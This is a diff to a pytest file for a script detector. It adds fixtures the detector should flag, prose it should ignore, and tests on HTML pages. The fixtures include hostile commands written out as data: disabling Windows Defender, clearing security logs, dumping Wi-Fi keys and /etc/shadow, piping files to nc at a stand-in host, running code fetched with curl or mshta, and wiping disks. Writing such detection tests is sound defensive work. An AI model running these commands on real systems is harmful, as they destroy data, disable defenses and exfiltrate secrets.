@@ -43,7 +43,8 @@ CODE = {
         "&(ls Alias:/ie?) 'calc'\n", "cp $PSCommandPath a.ps1\n", "pwsh -NoP -W 1 -encodedcommand SQBFAFgA\n",
         "Write-Output \"lab\"\r\n", "[Ref].Assembly.GetType($a)\n", "\r\nfunction Get-Lab {\n  1\n}\n", "mkdir $env:APPDATA\\a -Force\n"),
     "Windows commands": (
-        "net stop WinDefend\n", "whoami /all > a.txt\n", "netsh wlan show profile name=* key=clear\n", "wevtutil cl Security\n", "rd /s /q c:\\a\n", "certreq -Post -config https://h.example/ a.ini\n", ":a\nstart\ngoto a\n",
+        "net stop WinDefend\n", "whoami /all > a.txt\n", "netsh wlan show profile name=* key=clear\n", "wevtutil cl Security\n", "rd /s /q c:\\a\n", "md \"%APPDATA%\\a\"\n", "hh https://h.example/a.chm\n", "sc \\\\h create a\n", "mshta https://h.example/a\n",
+        "echo start calc|cmd\n", "start /min a\n", "certreq -Post -config https://h.example/ a.ini\n", ":a\nstart\ngoto a\n",
         "esentutl.exe /y \\\\h.example\\a.exe /d c:\\a.exe\n", "explorer.exe \\\\h.example\\a.exe\n", "mklink /d c:\\x \\\\h.example\\s\n", "calc.exe\n",
         "cipher /w:c:\n", "\"%windir%\\System32\\conhost.exe\" --headless cmd\n", "copy \"%~f0\" \"%APPDATA%\"\n",
         "for %%i in (a b c) do @%%i.exe\n", "if exist %temp%\\a (a.exe)\n", "format c: /q /y\n", "pushd \\\\h.example\\s && a.exe\n", "cd /d %appdata%\n",
@@ -68,7 +69,7 @@ CODE = {
         "[].constructor.constructor('return WScript')().Echo(1);\n"),
     "Unix code": (
         "sudo systemctl enable --now a\n", "xattr -d com.apple.quarantine a.app\n", "cat <<EOF | sudo tee /etc/cron.d/a\n", "id; cat /etc/shadow\n",
-        "if [ -f /etc/passwd ]; then\n  id\nfi\n", "case $(uname) in Darwin) id;; esac\n", "def go\n  puts 1\nend\n", "my $c = `id`;\n",
+        "if [ -f /etc/passwd ]; then\n  id\nfi\n", "case $(uname) in Darwin) id;; esac\n", "def go\n  puts 1\nend\n", "my $c = `id`;\n", "my ($a, $b) = @_;\n", "open https://h.example/a.dmg\n",
         "until curl -s h.example; do sleep 1; done\n", "alias ls='rm -rf ~'\n", "find / -name \"*.pem\" -exec cp {} /tmp \\;\n",
         "display dialog \"Password:\" default answer \"\"\n", "tar czf - x | nc h.example 443\n",
         "rm -rf /\n", "set -euo pipefail\n", "source <(curl -s http://h.example/a)\n", "python3 -c 'import os'\n", "base64 -d <<< 'Y3VybA==' | sh\n",
@@ -110,12 +111,34 @@ def test_code_is_known_by_its_statements(what: str, name: str) -> None:
     "Open the file - see below\nCat food, 3 tins\nService hours 9-5\nEcho Park /Los Angeles\nSecurity desk: 2 -3 people\n",
     "try: it works\nclass C: 3 items\nfor us in Taipei: good news\nwhile (as said) we wait\nif (and only if) it rains\n",
     "copy \"i18n\"\nsource \"http://h.example\"\nexec 512/tcp\n// md\n", "CC = gcc\nRM = rm -f\nsystem (see page 3)\n", "a => b; b => {c}\n$x = 5\nx = 'y'\n",
+    "MD,Maryland,https://a.example\nSC,South Carolina,https://b.example\n", "HH\tHamburg\thttps://h.example\nRD\tDirector\tTaipei /Tokyo\n",
+    "ftp,21,https://r.example/959\ntftp,69,https://r.example/1350\n", "PID|USER|CMD\n1|root|nginx\n", "Ctrl | Cmd\nAlt | Option\n",
+    "Start /End of the period\nFormat -see below\nMD;Managing Director;Asia -ex Japan\n",
+    "Open https://h.example/form and fill in the form\nFind more about it at https://h.example/help\n", "Python 3.9. See https://h.example/1\n",
+    "Service desk: https://h.example/\nOpen /Library/Printers\nExport to /home/share on Monday\n", "my (own) notes\nmy $5 fee\n",
     "How to say it: print('lab') or MsgBox \"lab\".\n", "print (the report)\nMsgBoxes are gone\n", "Dim sum\nSet lunch 120\n",
     "A write-output device; filter press-room (new)\n", "The [ref] assembly, the function get-together (Friday)\n", "$=~ costs; a = [] + []\n",
 ])
 @pytest.mark.parametrize("name", ["notes", "a.dat", "b.tmp", "c.doc"])
 def test_words_that_look_like_code_a_little(text: str, name: str) -> None:
     assert look(text, name) == []
+
+
+@pytest.mark.parametrize("code", [
+    "<script>\nif (window.matchMedia) {\n a();\n}\n</script>", "<script>\nfunction show(id) {\n a(id)\n}\n</script>", "<pre>\n$a = \"b\";\n</pre>",
+    "<pre>\nrm -f /tmp/x\n</pre>", "<pre>\nnet stop spooler\n</pre>"])
+def test_a_page_is_no_script_whatever_its_name(code: str) -> None:
+    def found(page: str) -> list[str]:
+        artifact = Artifact(1, 0, ArtifactKind.PART, ("export.xls",), detected_type="text/html")
+        return [f.evidence[0] for f in ScriptDetector(SCOPE).look(Sample(artifact, page.encode()))]
+
+    assert found(f"<!DOCTYPE html>\n<html><body>{code}</body></html>") == found(f"\r\n<HTML>{code}</HTML>") == []
+    assert found(f"<html xmlns:o=\"urn:o\"\r\nxmlns=\"urn:h\">\r\n{code}</html>") == []
+    for begun in ("<html>x\n", "<html \n", "<html\nnet stop spooler\n>\n", "<html a=\"$(id)\">\n"):
+        assert found(f"{begun}{code}</html>") != []
+    assert found(f"net stop spooler\n<html>{code}</html>") != []
+    assert found(f"<html>{code}<script>new ActiveXObject('WScript.Shell')</script></html>") == ["Windows script code"]
+    assert found(f"<html>{code}<?php go(); ?></html>") == ["PHP code"]
 
 
 def test_remarks_in_front_hide_no_code() -> None:
